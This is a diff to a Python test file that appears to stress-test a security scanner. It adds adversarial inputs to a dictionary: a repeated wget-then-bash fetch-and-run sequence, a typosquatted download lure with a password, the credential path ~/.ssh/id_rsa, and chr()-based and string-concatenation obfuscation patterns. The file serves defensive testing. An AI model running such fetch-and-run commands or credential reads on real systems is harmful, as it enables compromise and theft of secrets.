@@ -43,6 +43,12 @@ ADVERSARIAL = {
     "tag_flood": chr(0xE0041) * (SCAN_LIMIT // 2),
     "quote_flood": '"' * SCAN_LIMIT,
     "mixed_script_words": "аbc " * (SCAN_LIMIT // 4),
+    # The whole-skill rules and the decoder (node/market/scan/flows.py, decode.py).
+    "concatenated_literals": ('"a" + ' * (SCAN_LIMIT // 6))[:SCAN_LIMIT],
+    "character_codes": "chr(99)+" * (SCAN_LIMIT // 8),
+    "lure_lines": ("[x](https://githuh.com/a.zip) password: abc run download\n" * (SCAN_LIMIT // 56))[:SCAN_LIMIT],
+    "fetch_then_run": "".join(f"wget https://x.example/a{i}.sh\nbash a{i}.sh\n" for i in range(4000))[:SCAN_LIMIT],
+    "credential_paths": "~/.ssh/id_rsa\n" * (SCAN_LIMIT // 14),
 }
 
 
